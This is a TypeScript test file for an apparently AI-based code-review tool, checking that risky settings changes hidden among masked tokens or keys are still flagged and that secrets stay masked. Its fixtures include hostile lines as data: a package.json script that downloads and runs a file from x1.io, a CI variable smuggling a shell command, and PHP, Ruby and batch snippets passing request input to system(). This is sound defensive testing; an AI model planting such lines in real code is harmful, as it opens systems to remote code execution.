import { afterEach, describe, expect, it } from "vitest";
import { TestRepository } from "../../fixtures/repository.ts";
import { GITHUB_TOKEN, PRIVATE_KEY } from "../../fixtures/secrets.ts";
import { isFirstTurn, toolResults } from "../../servers/model-server.ts";
import { reviewWithModel } from "./model-review.ts";
import { runReview } from "./run-cli.ts";
import { aFinding } from "./scripted-panel.ts";

const BASE = { "site/settings.py": "LOGIN_REQUIRED = True\nDEBUG = False\n" };
const PASSWORD = ["Gh7kd", "92x"].join("");
const DANGER = /^.*(?:LOGIN_REQUIRED ?= ?False|DEBUG ?= ?True).*$/m;

let repository: TestRepository | undefined;

afterEach(async () => {
  await repository?.[Symbol.asyncDispose]();
});

async function changeTo(text: string, path = "site/settings.py"): Promise<string> {
  repository = await TestRepository.with(BASE);
  await repository.git("checkout", "-q", "-b", "pr");
  await repository.commitFiles({ [path]: text });
  return repository.directory;
}

/** A change of one file, and what an honest reader claims wherever it can be seen. */
interface Change {
  readonly path?: string;
  readonly text: string;
  readonly danger?: RegExp;
}

/** A review by an honest reader, who claims every danger that can be seen, and nothing else. */
async function reviewHonestly({ path = "site/settings.py", text, danger = DANGER }: Change) {
  let seen: string | undefined;
  const directory = await changeTo(text, path);
  return reviewWithModel(
    {
      intercept: (request, { role }) => {
        if (role !== "enthusiast") return undefined;
        // What was served is JSON.
        const shown = toolResults(request)
          .join("\n")
          .replaceAll("\\n", "\n")
          .replaceAll(/\\(["\\])/g, "$1");
        seen = danger.exec(shown)?.[0].replace(/^[^A-Za-z[]*/, "") ?? seen;
        return isFirstTurn(request) ? { toolCalls: [{ name: "read_diff", args: { path: null } }] } : undefined;
      },
      enthusiast: ({ round }) => {
        if (seen === undefined || round > 1) return [];
        const line = 1 + text.split("\n").findIndex((each) => danger.test(each));
        return [aFinding({ file: path, line, evidence_quote: seen, category: "authorization", severity: "high" })];
      },
    },
    { repository: directory },
  );
}

describe("code that a mask would hide", () => {
  const key = PRIVATE_KEY.split("\n");
  it.each([
    ["behind a token", `${GITHUB_TOKEN}=LOGIN_REQUIRED=False\n`],
    ["among the lines of a key", `${[...key.slice(0, 3), "DEBUG=True", ...key.slice(3)].join("\n")}\n`],
    ["as the last line of a key", `${[...key.slice(0, -1), "DEBUG=True", ...key.slice(-1)].join("\n")}\n`],
    ["between a header and an end", `${[key[0], "MI", ...Array(20).fill("DEBUG=True"), key.at(-1)].join("\n")}\n`],
    ["plainly, as the control", "LOGIN_REQUIRED=False\n"],
  ])("is seen by those who read it, %s", { tags: ["full"] }, async (_name, change) => {
    const run = await reviewHonestly({ text: `LOGIN_REQUIRED = True\n${change}` });
    expect(run.report.findings.map(({ category }) => category)).toContain("authorization");
    expect(run.exitCode).toBe(1);
    const told = JSON.stringify(run.requests);
    for (const secret of [GITHUB_TOKEN, key[1], key[2]]) expect(told).not.toContain(secret);
  });

  const script = (command: string) => `{\n  "scripts": {\n    "sync-secret": "${command}"\n  }\n}\n`;
  it.each([
    ["package.json", script(String.raw`curl\u0020-o\u0020/tmp/x1\u0020x1.io;sh\u0020/tmp/x1`), /curl.*x1\.io/],
    ["package.json", script("curl -o /tmp/x1 x1.io;sh /tmp/x1"), /curl.*x1\.io/],
    [".gitlab-ci.yml", '  APP_SECRET: "a1b2;sh\\x20/tmp/x1"\n', /sh\\x20\/tmp\/x1/],
    ["a.php", '<?php\n$password = "$_GET[k3y]";\nsystem($password);\n', /password = "\$_GET\[k3y\]"/],
    ["a.rb", 'password = "#@params1"\nsystem(password)\n', /password = "#@params1"/],
    ["a.bat", "set API_KEY=a1%CMD2%b\n%API_KEY%\n", /API_KEY=a1%CMD2%b/],
  ])("is seen under the name of a credential, in %s: %s", { tags: ["full"] }, async (path, text, danger) => {
    const run = await reviewHonestly({ path, text, danger });
    expect(run.report.findings.map(({ category }) => category)).toContain("authorization");
    expect(run.exitCode).toBe(1);
  });

  it.each([
    [".gitlab-ci.yml", `variables:\n  DEPLOY: "${GITHUB_TOKEN}"\n`, GITHUB_TOKEN, "high"],
    ["package.json", script(GITHUB_TOKEN), GITHUB_TOKEN, "high"],
    [".gitlab-ci.yml", `variables:\n  DB_PASSWORD: "${PASSWORD}"\n`, PASSWORD, "low"],
    ["config/app.yml", `db:\n  password: "${PASSWORD}"\n`, PASSWORD, undefined],
  ])("is none of a secret, which stays masked, in %s: %s", { tags: ["full"] }, async (path, text, secret, severity) => {
    const run = await reviewWithModel({}, { repository: await changeTo(text, path) });
    const told = JSON.stringify(run.requests);
    expect([told.includes(secret), told.includes("[secret:")]).toEqual([false, true]);
    expect(run.exitCode).toBe(severity === "high" ? 1 : 0);
    expect(run.report.findings.map(({ severity: given }) => given)).toEqual(severity === undefined ? [] : [severity]);
  });

  it("is no host of an address with a password: everybody sees where packages come from", async () => {
    const index = (host: string) => `--index-url https://ci:${PASSWORD}@${host}/simple\n`;
    repository = await TestRepository.with({ "requirements.txt": index("pypi.internal") });
    await repository.git("checkout", "-q", "-b", "pr");
    await repository.commitFiles({ "requirements.txt": index("pypi.elsewhere") });
    const told = JSON.stringify((await reviewWithModel({}, { repository: repository.directory })).requests);
    for (const host of ["pypi.internal/simple", "pypi.elsewhere/simple"]) expect(told).toContain(`]@${host}`);
    expect(told).not.toContain(PASSWORD);
  });

  it("is told by rule where it is masked, though nobody claims it", async () => {
    const masked = await reviewWithModel({}, { repository: await changeTo(`${GITHUB_TOKEN} = 1\n`) });
    expect(masked.report.findings).toMatchObject([{ category: "secrets", severity: "high", line: 1 }]);
    expect([masked.exitCode, masked.stdout.includes(GITHUB_TOKEN)]).toEqual([1, false]);
  });

  it("is not told where nothing is masked, and a test's token fails nothing", async () => {
    const plain = await reviewWithModel({}, { repository: await changeTo("LOGIN_REQUIRED = True\nDEBUG = 0\n") });
    expect([plain.report.findings, plain.exitCode]).toEqual([[], 0]);
    const test = await reviewWithModel({}, { repository: await changeTo(`t = "${GITHUB_TOKEN}"\n`, "tests/a.py") });
    expect([test.report.findings.map(({ severity }) => severity), test.exitCode]).toEqual([["low"], 0]);
  });

  it("is told once to the static panel, whose rule it is", { tags: ["full"] }, async () => {
    const run = await runReview(["--base", "main", "--panel", "static"], {
      cwd: await changeTo(`${GITHUB_TOKEN} = 1\n`),
    });
    expect(run.report.findings).toMatchObject([{ category: "secrets", severity: "critical" }]);
  });
});
